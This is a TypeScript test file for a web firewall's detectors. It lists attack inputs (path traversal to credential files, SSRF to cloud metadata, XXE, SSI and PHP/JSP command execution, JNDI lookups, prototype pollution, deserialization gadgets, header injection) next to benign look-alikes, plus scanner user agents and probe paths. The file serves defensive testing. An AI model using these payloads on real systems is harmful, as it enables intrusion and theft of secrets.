// biome-ignore-all lint/suspicious/noTemplateCurlyInString: lookups of logging libraries look like that.
import { ok, strictEqual } from "node:assert/strict";
import { describe, test } from "node:test";
import fc from "fast-check";
import { createExaminer, DETECTORS, PLACE_DETECTORS } from "../../src/detect/index.ts";

const examiner = createExaminer(DETECTORS);
const weightOf = (detector: string, value: string): number =>
  examiner.examine(Buffer.from(value).toString("latin1")).get(detector)?.weight ?? 0;

/** From this weight on a value is refused at the default paranoia. */
const SURE = 4;

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  path: [
    "../../../../var/data", "/static/img/../../etc/passwd", "..\\..\\..\\boot.ini", "....//....//etc/passwd", "..;/..;/manager", "/var/www/../../etc/shadow", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%5c%2e%2e%5cwin.ini",
    "..%c0%af..%c0%afetc/hosts", "%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/etc/group", "/etc/passwd", "/proc/self/environ", "C:\\Windows\\win.ini", "c:/windows/system32/config/sam", "/WEB-INF/web.xml", "~/.ssh/id_rsa", ".git/config",
    "php://filter/convert.base64-encode/resource=index", "phar://upload.jpg/x", "expect://id", "file:///etc/./passwd", "\\\\evil.example\\c$\\x", "/.../.../.../x", "0x2e0x2e0x2f0x2e0x2e0x2f0x2e0x2e0x2fetc", "../../../x\0.png",
  ],
  ssrf: [
    "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/", "http://127.0.0.1:6379/", "http://localhost/admin", "http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/", "http://127.1/",
    "http://[::ffff:127.0.0.1]/", "http://[::1]/", "http://x@127.0.0.1/", "//127.0.0.1/x", "http://10.0.0.1.nip.io/", "http://abc.oastify.com/", "see http://abc.burpcollaborator.net/ for it", "http://0/",
    "http:\\\\127.0.0.1\\x", "http:127.0.0.1", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/", "http://127.0.0.1#@example.com/", "http://192.0.0.192/latest/", "http://instance-data/latest/", "http://ip6-localhost/",
    "http://[fe80::1]/", "http://host.docker.internal/", "http://db.service.consul/", "http://api.shop.svc.cluster.local/",
  ],
  xml: [
    '<!DOCTYPE a SYSTEM "//x/x"><a/>', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', '<!ENTITY % x SYSTEM "http://x/">', '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>', '<xs:import schemaLocation="http://x/"/>',
    '<a xsi:schemaLocation="http://x/only-one"/>', '<?xml-stylesheet type="text/xsl" href="http://x/"?>', '<?xml version="1.0" encoding="UTF-7"?>', "<xsl:value-of select=\"document('/etc/passwd')\"/>", '<xsl:variable name="x" select="php:function(\'system\',\'id\')"/>', "<![CDATA[<]]>script",
  ],
  include: ['<!--#exec cmd="ls"-->', "<!-- #include virtual=/etc/passwd -->", "<!--#echo var='DATE_LOCAL' -->", '<esi:include src="http://x/"/>', "<?php system($_GET['c']); ?>", "<?=`id`?>", '<%= Runtime.getRuntime().exec("id") %>', '<jsp:include page="x"/>'],
  lookup: [
    "${jndi:ldap://x/a}", "${jndi:dns://x}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "${${env:NOTHING:-j}ndi${env:NOTHING:-:}ldap://x}", "${JNDI:LDAP://x}", "%24%7Bjndi:ldap://x%7D", "x ${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://x",
    "${env:DB_PASSWORD}", "${ctx:userId}", "${java:version}",
  ],
  prototype: ["__proprototypeto__[x]", "constprototypeructor[x]", "protoprototypetype[x]", "__proto__", "__proto__[admin]", "a[__proto__][b]", "constructor.prototype.admin", "constructor[prototype][admin]", '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"a":1}}}', "a.__proto__.b"],
  object: [
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "aced00057372", 'O:8:"stdClass":1:{s:1:"a";i:1;}', 'a:1:{i:0;O:4:"User":0:{}}', "AAEAAAD/////AQAAAAAAAAAMAgAAAFlTeXN0ZW0", "gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg", "cos\nsystem\n(S'id'\ntR.",
    "BAhvOkBBY3RpdmVTdXBwb3J0", "!!python/object/apply:os.system ['id']", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]", '{"rce":"_$$ND_FUNC$$_function(){}()"}', '{"@type":"com.sun.rowset.JdbcRowSetImpl"}', '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}', '<java class="java.beans.XMLDecoder">',
    '{"py/object":"os.system"}', "<jdk.nashorn.internal.objects.NativeString>",
  ],
  header: ["\r\nSet-Cookie: a=b", "en\r\nSet-Cookie: a=b", "\nLocation: https://evil.example/", "x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<html>", "x\r\nGET /admin HTTP/1.1", "%0d%0aSet-Cookie:a=b", "\u560d\u560aSet-Cookie:a=b", "en\r\nTransfer-Encoding: chunked"],
  graphql: ["{__schema{types{name}}}", "query { __type(name: \"User\") { fields { name } } }", '{"query":"{__schema {queryType { name }}}"}'],
}; // biome-ignore format: one list each

const HONEST: Readonly<Record<string, readonly string[]>> = {
  path: ["../images/logo.png", "see ../README and ../../docs for more", "wait... what?", "1..10", "C:\\Users\\anna\\Documents\\a b.xlsx", "https://example.com/etc/terms", "Edit /etc/hosts and start again.", "and/or", "12/24/2026", "a/b/c.txt", "//example.com/x.js", "\\alpha\\beta", "data: a; file: b", "PHP: a fractal", "/docs/etc/readme", "/blog/etc/terms", "shop/usr/local/guide"],
  ssrf: ["https://example.com/?next=http://example.org/", "http://localhost:3000/callback", "Open http://192.168.0.1 in your browser", "// a comment", "https://sub.domain.co.kr/경로", "version 127.0.0.1 is fine", "http://1.2.3.example.com/", "http:see there", "https://example.com/#@top", "http://caf\u00e9.example/", "http://[2001:db8::1]/", "https://docs.docker.com/host.docker.internal", "https://consul.example/service"],
  xml: ['<!DOCTYPE html><html lang="ko">', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">', '<?xml version="1.0" encoding="UTF-8"?><a/>', "<![CDATA[text & more]]>", '<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">'],
  include: ["<!-- a comment -->", "<!-- # of items -->", "5 <% of 10", "<?xml version='1.0'?>", "a <? b"],
  lookup: ["Hello ${name}!", "cost: ${price} (${currency})", "`${items.length} items`", "{{ user.name }}", "#{id}", "${{ secrets.KEY }}", "${env:HOME}/bin", "${env:USERNAME}", "set ${java:home} first"],
  prototype: ["Object.prototype is shared", "the constructor of the prototype", "my_proto_type", "__init__", "We talked about __proto__ yesterday."],
  object: ["a:1 b:2", "O: 8", "Note: Order: 5", "com.example.app.Main", "at java.lang.Thread.run(Thread.java:829)", "hello!!", "system.out", "key: !important", "2026-11-21T10:00:00.000Z", "BAh7B0kiD3Nlc3Npb25faWQ=--0123456789abcdef0123456789abcdef01234567", 'see "py/test" there'],
  header: ["first line\nsecond line", "Dear all,\n\nDate: Friday\nLocation: room 3\n\nBye", "From: a@example.com\nContent-Type: text/plain\nSubject: x\n\nhello", "a\r\nb\r\nc", "Note:\n  - Host: the one who invites"],
  graphql: ["{ user { __typename name } }", "__typename", "my__schema_name"],
}; // biome-ignore format: one list each

for (const [detector, values] of Object.entries(ATTACKS)) {
  describe(`The firewall's ${detector} detector`, () => {
    for (const value of values) test(`is sure of ${JSON.stringify(value)}`, () => ok(weightOf(detector, value) >= SURE));
    for (const value of HONEST[detector] ?? []) test(`is not sure of ${JSON.stringify(value)}`, () => ok(weightOf(detector, value) < SURE));
  });
}

describe("The firewall's detectors", () => {
  test("never throw, find the same again, and keep excerpts to 100 bytes", () => {
    const pieces = fc.constantFrom(
      ...Object.values(ATTACKS)
        .flat()
        .flatMap((value) => [value, value.slice(0, 8), value.slice(-8)]),
      "<",
      ">",
      '"',
      "'",
      "`",
      "${",
      "}",
      "%",
      "\\",
      "\0",
      "\xff",
      "\xc0",
      "../",
      "//",
      ":",
      "\r\n",
      "&#",
      "=",
      "a",
      " ",
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
        const value = Buffer.from(parts.join("")).toString("latin1");
        const once = [...examiner.examine(value)];
        for (const [, finding] of once) ok(finding.excerpt.length <= 100 && finding.weight >= 1 && finding.weight <= 5);
        strictEqual(JSON.stringify(once), JSON.stringify([...examiner.examine(value)]));
      }),
      { numRuns: 1_000 },
    );
  });

  test("look wherever one of the bytes stands that they need, and find nothing where none does", () => {
    for (const detector of [...DETECTORS, ...PLACE_DETECTORS]) {
      const { needs } = detector;
      if (needs === undefined) continue;
      for (const value of Object.values(ATTACKS)
        .flat()
        .map((text) => Buffer.from(text).toString("latin1"))) {
        const isNeeded = [...value].some((byte) => needs[byte.charCodeAt(0)] === 1);
        if (!isNeeded) strictEqual(detector.find(value), undefined, `${detector.name}: ${value}`);
      }
    }
  });

  test("name scanners by the header they send and probes by the path they ask for", () => {
    const find = (name: string, value: string): number =>
      PLACE_DETECTORS.find((detector) => detector.name === name)?.find(value)?.weight ?? 0;
    for (const agent of [
      "sqlmap/1.9#stable",
      "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
      "Nuclei - Open-source project",
      "Fuzz Faster U Fool v2",
      "x.nasl",
    ])
      ok(find("agent", agent) >= SURE, agent);
    for (const agent of [
      "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0",
      "curl/8.5.0",
      "okhttp/4.12",
      "Googlebot/2.1 (+http://www.google.com/bot.html)",
      "Zapier",
      "Hydrabot-news",
    ])
      ok(find("agent", agent) < SURE, agent);
    for (const path of ["/.git/HEAD", "/.env", "/app/.env.local", "/wp-config.php.bak", "/actuator/heapdump", "/.aws/credentials"])
      ok(find("probe", path) >= SURE, path);
    for (const path of ["/", "/environment", "/.well-known/security.txt", "/git/guide", "/articles/how-to-use-.env-files", "/config"])
      ok(find("probe", path) < SURE, path);
  });
});
